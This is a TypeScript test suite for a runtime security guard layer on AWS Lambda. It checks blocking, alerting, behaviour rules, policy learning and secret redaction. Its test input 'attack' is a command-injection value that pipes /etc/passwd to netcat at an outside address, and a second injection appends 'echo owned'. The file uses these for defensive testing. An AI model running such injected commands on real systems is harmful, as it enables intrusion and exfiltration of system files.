import { mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { writeLayer } from '../../build.ts';
import { mergeObservations, type Observations } from '../behaviour/learn/merge-observations.ts';
import { writePolicy } from '../behaviour/learn/write-policy.ts';
import { installRuntime, type LoopResult, type LoopRun, runInLoop } from './lambda-loop.cases.ts';

const runtime = installRuntime();
const out = mkdtempSync(join(tmpdir(), 'guard-layer-'));
const layer = join(out, 'layer');
const attack = '1; cat /etc/passwd | nc 203.0.113.9 4444';

beforeAll(() => writeLayer(out));
afterAll(() => rmSync(out, { recursive: true, force: true }));

function request(body: unknown): unknown {
  return {
    version: '2.0',
    rawPath: '/orders',
    rawQueryString: '',
    headers: { 'content-type': 'application/json' },
    requestContext: { http: { method: 'POST', path: '/orders', sourceIp: '198.51.100.7' } },
    body: JSON.stringify(body),
    isBase64Encoded: false,
  };
}

function queue(...bodies: readonly string[]): unknown {
  return {
    Records: bodies.map((body, index) => ({ messageId: `m${index + 1}`, body, eventSource: 'aws:sqs' })),
  };
}

const ATTACK = request({ name: attack });
const FINE = request({ name: 'Ada Lovelace' });
/** How the code of a function outside a layer reaches the guard. */
const IMPORT = `import { withGuard, guardMiddleware } from ${JSON.stringify(join(out, 'package/guard.mjs'))};\n`;
const REQUIRE = `const { withGuard } = require(${JSON.stringify(join(out, 'package/guard.cjs'))});\n`;

describe.skipIf(runtime === undefined).each(runtime?.nodes ?? [])('on Node %s', (major, node) => {
  async function run(
    given: Omit<LoopRun, 'node' | 'handler'> & { readonly handler?: string },
  ): Promise<LoopResult> {
    return runInLoop(runtime?.client ?? '', { node, handler: 'app.handler', ...given });
  }
  const ok = `async (event, context) => ({ statusCode: 200, body: 'ran ' + context.awsRequestId })`;
  const blocking = { WATERTIGHT_MODE: 'block' };

  describe('the layer', () => {
    const kinds: [string, Record<string, string>][] = [
      ['an ES module', { 'app.mjs': `export const handler = ${ok};` }],
      [
        'an ES module by its package.json',
        { 'package.json': '{"type":"module"}', 'app.js': `export const handler = ${ok};` },
      ],
      ['CommonJS', { 'app.js': `exports.handler = ${ok};` }],
      ['a .cjs file', { 'app.cjs': `exports.handler = ${ok};` }],
      [
        'an ES module that awaits while it loads',
        { 'app.mjs': `await new Promise((r) => setTimeout(r, 20)); export const handler = ${ok};` },
      ],
      [
        'a handler with a callback',
        {
          'app.js': `exports.handler = (event, context, callback) => setTimeout(() => callback(null, { statusCode: 200, body: 'ran ' + context.awsRequestId }), 5);`,
        },
      ],
      [
        'a handler that tells its context',
        {
          'app.js': `exports.handler = (event, context) => { setTimeout(() => context.succeed({ statusCode: 200, body: 'ran ' + context.awsRequestId }), 5); };`,
        },
      ],
    ];
    test.each(kinds)('blocks an attack and runs the rest: %s', async (_kind, files) => {
      const { answers, violations } = await run({
        files,
        layer,
        environment: blocking,
        events: [ATTACK, FINE],
      });
      expect(answers.map(({ body }) => body)).toMatchObject([
        { statusCode: 403 },
        { statusCode: 200, body: 'ran req-2' },
      ]);
      expect(violations).toMatchObject([
        {
          level: 'ERROR',
          function_name: 'orders',
          function_request_id: 'req-1',
          xray_trace_id: '1-5bef4de7-ad49b0e87f6ef6c87fc2e700',
          watertight: {
            verdict: 'block',
            field: 'body.name',
            trigger: 'api-gateway-http',
            sourceIp: '198.51.100.7',
          },
        },
      ]);
    });

    test('alerts, and says so, unless it is told to block', async () => {
      const files = { 'app.mjs': `export const handler = ${ok};` };
      const { answers, violations } = await run({ files, layer, events: [ATTACK] });
      expect(answers).toMatchObject([{ body: { statusCode: 200, body: 'ran req-1' } }]);
      expect(violations).toMatchObject([
        { level: 'WARN', cold_start: true, watertight: { verdict: 'alert' } },
      ]);
    });

    test('is not there when it is off', async () => {
      const files = {
        'app.mjs':
          'export const handler = async () => [process.env._HANDLER, process.env.NODE_OPTIONS ?? null];',
      };
      const { answers, violations } = await run({
        files,
        layer,
        environment: { WATERTIGHT_MODE: 'off' },
        events: [ATTACK],
      });
      expect(answers[0]?.body).toEqual(['app.handler', null]);
      expect(violations).toEqual([]);
    });

    test('shows the function the name of its own handler, and keeps its node options', async () => {
      const files = {
        'src/app.mjs':
          'export const api = { handler: async () => [process.env._HANDLER, process.env.NODE_OPTIONS] };',
      };
      const environment = { NODE_OPTIONS: '--no-warnings' };
      const { answers } = await run({
        files,
        layer,
        handler: 'src/app.api.handler',
        environment,
        events: [FINE],
      });
      expect(answers[0]?.body).toEqual([
        'src/app.api.handler',
        expect.stringMatching(/--import .* --no-warnings$/),
      ]);
    });

    test.each([
      ['a module that is missing', {}, /ImportModuleError|MODULE_NOT_FOUND|Cannot find module/],
      ['a handler that is missing', { 'app.mjs': 'export const other = 1;' }, /HandlerNotFound/],
      ['a syntax error', { 'app.js': 'exports.handler = {' }, /UserCodeSyntaxError|SyntaxError/],
      ['an error while it loads', { 'app.mjs': `throw new RangeError('no settings');` }, /RangeError/],
    ])('lets the runtime tell of %s', async (_case, files, expected) => {
      const { initError } = await run({ files, layer, environment: blocking, events: [FINE], timeout: 5000 });
      expect(JSON.stringify(initError)).toMatch(expected);
    });

    test('reads its policy from a file of the function', async () => {
      const policy = {
        version: 7,
        mode: 'block',
        firewall: { exceptions: [{ detector: '*', field: 'body.name' }] },
      };
      const files = { 'app.mjs': `export const handler = ${ok};`, 'guard.json': JSON.stringify(policy) };
      const { answers, violations } = await run({
        files,
        layer,
        environment: { WATERTIGHT_POLICY: 'guard.json' },
        events: [ATTACK, request({ other: attack })],
      });
      expect(answers).toMatchObject([{ body: { statusCode: 200 } }, { body: { statusCode: 403 } }]);
      expect(violations).toMatchObject([{ watertight: { policyVersion: '7' } }]);
    });
  });

  describe('behaviour', () => {
    const policy = JSON.stringify({ mode: 'off', behaviour: { processes: 'block', otherWrites: 'alert' } });
    const files = {
      'app.mjs': `import { execFileSync } from 'node:child_process';
        export const handler = async () => { try { return execFileSync('id').toString(); } catch (error) { return error.code; } };`,
    };

    test('is held from before the first line of the function, by the layer', async () => {
      const { answers, violations } = await run({
        files,
        layer,
        environment: { WATERTIGHT_POLICY_JSON: policy },
        events: [FINE],
      });
      expect(answers[0]?.body).toBe('ERR_WATERTIGHT_BLOCKED');
      expect(violations).toMatchObject([
        {
          message: expect.stringMatching(/^Violation: processes/),
          function_request_id: 'req-1',
          watertight: {
            detector: 'processes',
            direction: 'behaviour',
            verdict: 'block',
            field: expect.stringContaining('app.mjs'),
          },
        },
      ]);
    });
  });

  test('lines that were left out are summed up at the end of their invocation', async () => {
    const files = {
      'app.mjs': `import { writeFileSync } from 'node:fs';
        export const handler = async () => { for (let i = 0; i < 20; i += 1) try { writeFileSync('/var/tmp/never/' + i, ''); } catch {} };`,
    };
    const policy = { mode: 'off', behaviour: { otherWrites: 'block' }, log: { linesPerMinute: 3 } };
    const { violations } = await run({
      files,
      layer,
      environment: { WATERTIGHT_POLICY_JSON: JSON.stringify(policy) },
      events: [FINE],
    });
    expect(violations).toHaveLength(4);
    expect(violations[3]).toMatchObject({
      function_request_id: 'req-1',
      watertight: { direction: 'summary', detector: 'otherWrites', count: 17 },
    });
  });

  describe('the code of the function', () => {
    const body = `async () => { try { return require('node:fs').readFileSync(__filename, 'utf8').length; } catch (error) { return error.code; } };`;
    const create = `import { createRequire } from 'node:module'; const require = createRequire(import.meta.url); const __filename = import.meta.filename ?? new URL(import.meta.url).pathname;`;
    test.each<[string, Record<string, string>]>([
      ['CommonJS', { 'app.js': `require('./other.js'); exports.handler = ${body}`, 'other.js': '' }],
      [
        'an ES module',
        {
          'package.json': '{"type":"module"}',
          'app.js': `import './other.js'; ${create} export const handler = ${body}`,
          'other.js': "await import('./late.mjs');",
          'late.mjs': '',
        },
      ],
    ])('is read by Node and the guard, by nobody else: %s', async (_kind, files) => {
      const { answers, violations } = await run({
        files,
        layer,
        environment: { WATERTIGHT_POLICY_JSON: '{"mode":"block","behaviour":{"handlerCode":"block"}}' },
        events: [FINE],
      });
      expect(answers[0]?.body).toBe('ERR_WATERTIGHT_BLOCKED');
      expect(violations).toMatchObject([
        { watertight: { detector: 'handlerCode', field: expect.stringContaining('app.js') } },
      ]);
    });
  });

  test('what one invocation leaves does not wait for the next', async () => {
    const files = {
      'app.mjs': `globalThis.ofStart = 1;
        export const handler = async () => { const seen = [globalThis.ofStart, globalThis.tenant ?? null]; globalThis.tenant = 't1'; return seen; };`,
    };
    const { answers, violations } = await run({
      files,
      layer,
      environment: {
        WATERTIGHT_POLICY_JSON: '{"behaviour":{"residue":{"mode":"block","allow":["/tmp/"]}}}',
      },
      events: [FINE, FINE],
    });
    expect(answers.map(({ body }) => body)).toEqual([
      [1, null],
      [1, null],
    ]);
    expect(violations).toContainEqual(
      expect.objectContaining({
        watertight: expect.objectContaining({ detector: 'residue', match: 'globalThis.tenant' }),
      }),
    );
  });

  describe("Node's permission model", () => {
    const files = {
      'app.mjs': `import { writeFileSync } from 'node:fs';
        export const handler = async () => {
          const has = process.permission?.has('child') ?? null;
          try { writeFileSync('/var/tmp/never', 'x'); return [has, 'written']; } catch (error) { return [has, error.code]; }
        };`,
      'guard.json': JSON.stringify({
        mode: 'off',
        behaviour: { permissionModel: true, processes: 'block', otherWrites: 'block' },
      }),
    };
    const rules = { processes: 'block', otherWrites: 'block' };
    const policy = (behaviour: object) => JSON.stringify({ mode: 'off', behaviour });

    test.each<[string, Record<string, string>, boolean]>([
      ['by the environment', { WATERTIGHT_PERMISSIONS: 'on', WATERTIGHT_POLICY_JSON: policy(rules) }, true],
      ['by a policy', { WATERTIGHT_POLICY_JSON: policy({ ...rules, permissionModel: true }) }, true],
      ['by a policy in a file', { WATERTIGHT_POLICY: 'guard.json' }, true],
      ['unless it is asked for', { WATERTIGHT_POLICY_JSON: policy(rules) }, false],
      [
        'unless the environment says off',
        { WATERTIGHT_POLICY: 'guard.json', WATERTIGHT_PERMISSIONS: 'off' },
        false,
      ],
      [
        'unless the policy says no',
        { WATERTIGHT_POLICY_JSON: policy({ ...rules, permissionModel: false }) },
        false,
      ],
    ])('is put on by the script: %s', async (_case, environment, isOn) => {
      const { answers, initError } = await run({ files, layer, environment, events: [FINE] });
      expect(initError).toBeUndefined();
      expect(answers[0]?.body).toEqual([isOn ? false : null, 'ERR_WATERTIGHT_BLOCKED']);
    });

    test('keeps /proc from being read, with or without hooks', async () => {
      const reading = {
        'app.mjs': `import { readFileSync } from 'node:fs';
          export const handler = async () => {
            const may = process.permission.has('fs.read', '/proc/self/environ');
            try { return [may, readFileSync('/proc/self/environ').length]; } catch (error) { return [may, error.code]; }
          };`,
      };
      const processFiles = { mode: 'block', allow: [realpathSync(runtime?.client ?? ''), layer] };
      const { answers, initError } = await run({
        files: reading,
        layer,
        environment: { WATERTIGHT_PERMISSIONS: 'on', WATERTIGHT_POLICY_JSON: policy({ processFiles }) },
        events: [FINE],
      });
      expect(initError).toBeUndefined();
      expect(answers[0]?.body).toEqual([false, 'ERR_WATERTIGHT_BLOCKED']);
    });

    test('the script tells why it is not on', async () => {
      const { output } = await run({
        files,
        layer,
        environment: { WATERTIGHT_PERMISSIONS: 'on', WATERTIGHT_POLICY_JSON: '{' },
        events: [FINE],
      });
      expect(output).toContain("Node's permission model: Cannot use the policy");
    });
  });

  describe('learning', () => {
    const files = (more = '') => ({
      'app.mjs': `import { readFileSync, writeFileSync } from 'node:fs';
        import { createRequire } from 'node:module';
        createRequire(import.meta.url)('node:zlib');
        export const handler = async ({ body }) => {
          writeFileSync('/tmp/learned-' + process.pid, process.env.TABLE_NAME); ${more}
          return JSON.parse(body).name;
        };`,
    });
    const environment = { WATERTIGHT_MODE: 'learn', TABLE_NAME: 'orders' };

    test('writes what the function does and the shapes of its events, of attacks nothing', async () => {
      const { violations } = await run({
        files: files(),
        layer,
        environment,
        events: [FINE, request({ name: attack, more: 1 }), FINE],
      });
      const learned = violations.flatMap(({ watertight }) =>
        typeof watertight === 'object' && watertight !== null && 'learned' in watertight
          ? [watertight.learned]
          : [],
      );
      expect(learned[0]).toMatchObject({
        schema: 'watertight/behaviour-observations/1',
        functionName: 'orders',
        acts: {
          tempWrites: { '/tmp/': expect.any(Number) },
          variables: { TABLE_NAME: 1 },
          ...(major === '20' ? {} : { modules: { 'node:zlib': 1 } }),
        },
        eventShapes: { 'api-gateway-http': { '$.body(json).name': ['string'] } },
      });
      expect(JSON.stringify(learned)).not.toMatch(/passwd|\.more|Ada/);
      expect(violations).toContainEqual(
        expect.objectContaining({ message: expect.stringMatching(/^Violation: shell/) }),
      );
    });

    test('becomes a policy under which the function tells its drift, each thing once', async () => {
      const { violations } = await run({ files: files(), layer, environment, events: [FINE, FINE] });
      expect(violations.filter(({ message }) => String(message).startsWith('Violation'))).toEqual([]);
      const parts = violations.flatMap(({ watertight }) =>
        typeof watertight === 'object' && watertight !== null && 'learned' in watertight
          ? [watertight.learned]
          : [],
      ) as Observations[];
      const observations = parts.reduce(mergeObservations);
      const { behaviour, learned } = writePolicy(observations, 'alert');
      // The test's function and runtime lie in /tmp: what a person who reviews the policy would allow.
      const reviewed = { ...behaviour, codeGeneration: 'allow', runtimeApi: 'allow' };
      const policy = JSON.stringify({ functions: { orders: { behaviour: reviewed, learned } } });
      const enforced = (more?: string) =>
        run({
          files: { ...files(more), 'guard.json': policy },
          layer,
          environment: { WATERTIGHT_POLICY: 'guard.json', TABLE_NAME: 'orders', SECOND: 'x' },
          events: [FINE, request({ name: 'Ada', admin: true }), request({ name: 'Ada', admin: true })],
        });
      const told = ({ violations: lines }: LoopResult) =>
        lines.map(({ message, watertight }) => [message, (watertight as { match: string }).match]);
      expect(told(await enforced()).map(([, match]) => match)).toEqual([
        'api-gateway-http $.body(json).admin: boolean',
      ]);
      const drifted = told(await enforced('process.env.SECOND; readFileSync("/etc/hostname");'));
      expect(drifted).toHaveLength(3);
      expect(drifted.map(([, match]) => match)).toEqual(
        expect.arrayContaining(['SECOND', '/etc/', 'api-gateway-http $.body(json).admin: boolean']),
      );
      for (const [message] of drifted) expect(message).toMatch(/^Violation: drift/);
    });
  });

  test('a guard that is off puts no hooks in', async () => {
    const files = {
      'app.mjs': `${IMPORT}import { execFileSync } from 'node:child_process';
        export const handler = withGuard(async () => execFileSync('id').length > 0);`,
    };
    const { answers, violations } = await run({
      files,
      environment: {
        WATERTIGHT_MODE: 'off',
        WATERTIGHT_POLICY_JSON: '{"behaviour":{"processes":"block"}}',
      },
      events: [FINE],
    });
    expect(answers[0]?.body).toBe(true);
    expect(violations).toEqual([]);
  });

  describe('sinks', () => {
    test('judge the statement that the event became part of, by the layer', async () => {
      const files = {
        'app.mjs': `import { execSync } from 'node:child_process';
          export const handler = async ({ body }) => { try { return execSync('echo hello ' + JSON.parse(body).name).toString(); } catch (error) { return error.code; } };`,
      };
      const policy = JSON.stringify({ firewall: { mode: 'alert' }, sinks: { modes: { path: 'off' } } });
      const { answers, violations } = await run({
        files,
        layer,
        environment: { WATERTIGHT_POLICY_JSON: policy },
        events: [request({ name: 'Ada' }), request({ name: 'Ada; echo owned' })],
      });
      expect(answers.map(({ body }) => body)).toEqual(['hello Ada\n', 'ERR_WATERTIGHT_BLOCKED']);
      expect(violations).toContainEqual(
        expect.objectContaining({
          function_request_id: 'req-2',
          watertight: expect.objectContaining({
            detector: 'shell',
            direction: 'behaviour',
            verdict: 'block',
          }),
        }),
      );
    });
  });

  describe('handlers that are wrapped in code', () => {
    test('keeps blocked messages from the handler and reports them with its own failures', async () => {
      const files = {
        'app.mjs': `${IMPORT}export const handler = withGuard(async ({ Records }) => ({ batchItemFailures: Records.filter((r) => r.body === 'bad').map((r) => ({ itemIdentifier: r.messageId })) }), { mode: 'block' });`,
      };
      const { answers, violations } = await run({
        files,
        events: [queue('good', attack, 'bad'), queue(attack)],
      });
      expect(answers.map(({ body }) => body)).toEqual([
        { batchItemFailures: [{ itemIdentifier: 'm3' }, { itemIdentifier: 'm2' }] },
        { batchItemFailures: [{ itemIdentifier: 'm1' }] },
      ]);
      expect(violations).toMatchObject([{ watertight: { record: 1, blockedRecords: [1] } }, {}]);
    });

    test('fails the invocation where a trigger has no answer', async () => {
      const files = {
        'app.cjs': `${REQUIRE}exports.handler = withGuard(async () => 'ran', { mode: 'block' });`,
      };
      const event = { Records: [{ EventSource: 'aws:sns', Sns: { Message: attack, Subject: 'x' } }] };
      const { answers } = await run({ files, events: [event] });
      expect(answers).toMatchObject([
        { kind: 'error', body: { errorType: 'GuardBlockedError', errorMessage: 'Forbidden' } },
      ]);
      expect(JSON.stringify(answers)).not.toContain('/etc/passwd');
    });

    test.each([
      ['thrown at once', '() => { throw new TypeError("boom"); }'],
      ['thrown later', 'async () => { throw new TypeError("boom"); }'],
      ['told to the callback', '(event, context, callback) => callback(new TypeError("boom"))'],
    ])('passes errors on: %s', async (_case, handler) => {
      const files = { 'app.mjs': `${IMPORT}export const handler = withGuard(${handler});` };
      const { answers } = await run({ files, events: [FINE] });
      expect(answers).toMatchObject([
        { kind: 'error', body: { errorType: 'TypeError', errorMessage: 'boom' } },
      ]);
    });

    test('leaves a crash and a timeout to Lambda', async () => {
      const crash = { 'app.mjs': `${IMPORT}export const handler = withGuard(async () => process.exit(3));` };
      expect(await run({ files: crash, events: [FINE] })).toMatchObject({ answers: [], exitCode: 3 });
      const endless = {
        'app.mjs': `${IMPORT}export const handler = withGuard(() => new Promise((r) => setTimeout(r, 60_000)));`,
      };
      const { answers, violations } = await run({ files: endless, events: [ATTACK], timeout: 1500 });
      expect(answers).toEqual([]);
      expect(violations).toHaveLength(1);
    });

    test('guards once what is wrapped by the layer, by code and by middleware', async () => {
      const middy = `const middy = (handler, m) => async (event, context) => {
        const request = { event, context };
        const early = await m.before(request);
        if (early !== undefined) return early;
        request.response = await handler(request.event, context);
        await m.after(request);
        return request.response;
      };\n`;
      const files = {
        'app.mjs': `${IMPORT}${middy}export const handler = withGuard(withGuard(middy(${ok}, guardMiddleware({ mode: 'block' })), { mode: 'block' }), { mode: 'block' });`,
      };
      const { answers, violations } = await run({
        files,
        layer,
        environment: blocking,
        events: [ATTACK, FINE],
      });
      expect(answers).toMatchObject([{ body: { statusCode: 403 } }, { body: { body: 'ran req-2' } }]);
      expect(violations).toHaveLength(1);
    });

    test('keeps secrets and traces in: the answer is replaced', async () => {
      const files = {
        'app.mjs': `${IMPORT}export const handler = withGuard(async ({ body }) => JSON.parse(body).name === 'trace'
          ? { statusCode: 500, body: JSON.stringify({ stack: new Error('x').stack }) }
          : { statusCode: 200, isBase64Encoded: true, body: Buffer.from('key ' + process.env.AWS_SECRET_ACCESS_KEY).toString('base64') });`,
      };
      const environment = { ...blocking, AWS_SECRET_ACCESS_KEY: 'wJalrXUtnFEMIK7MDENGbPxRfiCYzzzzzzzzzzzz' };
      const { answers, output, violations } = await run({
        files,
        environment,
        events: [request({ name: 'trace' }), request({ name: 'key' })],
      });
      expect(answers).toMatchObject([
        { body: { statusCode: 500, body: '{"message":"Internal Server Error"}' } },
        { body: { statusCode: 500, body: '{"message":"Internal Server Error"}' } },
      ]);
      expect(violations).toMatchObject([
        { watertight: { detector: 'stack-trace', direction: 'response', field: 'response.body' } },
        { watertight: { detector: 'own-credentials', rule: 'aws-secret-access-key' } },
      ]);
      expect(output).not.toContain(environment.AWS_SECRET_ACCESS_KEY);
    });
  });

  describe('streaming handlers', () => {
    const stream = (code: string) => ({
      'app.mjs': `export const handler = awslambda.streamifyResponse(async (event, stream) => {
        const out = awslambda.HttpResponseStream.from(stream, { statusCode: 200, headers: { 'content-type': 'text/plain' } });
        ${code}
        out.end();
      });`,
    });

    test('streams what may leave, with its metadata', async () => {
      const { answers, violations } = await run({
        files: stream(
          `for (const part of ['one ', 'two ', 'three']) { out.write(part); await new Promise((r) => setTimeout(r, 5)); }`,
        ),
        layer,
        environment: blocking,
        events: [FINE],
      });
      expect(answers[0]?.body).toBe(
        '{"statusCode":200,"headers":{"content-type":"text/plain"}}\0\0\0\0\0\0\0\0one two three',
      );
      expect(answers[0]?.contentType).toContain('vnd.awslambda.http-integration-response');
      expect(violations).toEqual([]);
    });

    test('answers a blocked event with a status', async () => {
      const { answers } = await run({
        files: stream(`out.write('ran');`),
        layer,
        environment: blocking,
        events: [ATTACK],
      });
      expect(answers[0]?.body).toMatch(/^\{"statusCode":403,.*\}\0{8}\{"message":"Forbidden"\}$/);
    });

    test('cuts the stream at a key, also one over two pieces', async () => {
      const { answers, violations } = await run({
        files: stream(`out.write('begin AKIAQWERT'); out.write('YUIOPASDFGH end'); out.write('after');`),
        layer,
        environment: blocking,
        events: [FINE],
      });
      expect(answers[0]?.body).toMatch(/\0begin $/);
      expect(violations).toMatchObject([{ watertight: { detector: 'access-key', verdict: 'block' } }]);
    });

    test('lets nothing of a key leave that comes byte by byte', async () => {
      const { answers, violations } = await run({
        files: stream(`for (const letter of 'begin AKIAQWERTYUIOPASDFGH end') out.write(letter);`),
        layer,
        environment: blocking,
        events: [FINE],
      });
      expect(answers[0]?.body).toMatch(/\0begin $/);
      expect(violations).toMatchObject([{ watertight: { detector: 'access-key', verdict: 'block' } }]);
    });

    test('passes an error of the handler on', async () => {
      const { answers } = await run({
        files: stream(`out.write('x'); throw new TypeError('boom');`),
        layer,
        events: [FINE],
      });
      expect(answers).toMatchObject([{ streamError: 'TypeError' }]);
    });
  });

  // The same on every version: once is enough.
  if (major === runtime?.nodes.at(-1)?.[0])
    test('reads its policy from AppConfig and Parameter Store, and lives without them', async () => {
      const policy = JSON.stringify({ version: 'remote', mode: 'block' });
      const asked: string[] = [];
      const extension = createServer((incoming, response) => {
        asked.push(`${incoming.url} ${incoming.headers['x-aws-parameters-secrets-token'] ?? ''}`);
        if (incoming.url?.startsWith('/systemsmanager/') === true)
          response.end(JSON.stringify({ Parameter: { Value: policy } }));
        else if (incoming.url?.endsWith('/broken') === true) response.writeHead(500).end();
        else response.end(policy);
      });
      await new Promise<void>((resolve) => extension.listen(0, 'localhost', resolve));
      const port = String((extension.address() as AddressInfo).port);
      const files = { 'app.mjs': `export const handler = ${ok};` };
      const ports = {
        AWS_APPCONFIG_EXTENSION_HTTP_PORT: port,
        PARAMETERS_SECRETS_EXTENSION_HTTP_PORT: port,
        AWS_SESSION_TOKEN: 'session',
      };
      try {
        const fromAppConfig = await run({
          files,
          layer,
          environment: { ...ports, WATERTIGHT_POLICY_APPCONFIG: 'app/prod/guard' },
          events: [ATTACK],
        });
        const fromParameter = await run({
          files,
          layer,
          environment: { ...ports, WATERTIGHT_POLICY_PARAMETER: '/guard/orders' },
          events: [ATTACK],
        });
        const broken = await run({
          files,
          layer,
          environment: { ...ports, WATERTIGHT_POLICY_APPCONFIG: 'app/prod/broken' },
          events: [ATTACK],
        });
        expect(fromAppConfig.answers).toMatchObject([{ body: { statusCode: 403 } }]);
        expect(fromParameter.answers).toMatchObject([{ body: { statusCode: 403 } }]);
        expect(broken.answers).toMatchObject([{ body: { statusCode: 200 } }]);
        expect(broken.violations).toMatchObject([
          { watertight: { failure: expect.stringContaining('answered 500') } },
          { level: 'WARN' },
        ]);
        expect(asked.slice(0, 2)).toEqual([
          '/applications/app/environments/prod/configurations/guard ',
          '/systemsmanager/parameters/get?withDecryption=true&name=%2Fguard%2Forders session',
        ]);
      } finally {
        extension.close();
      }
    });
});
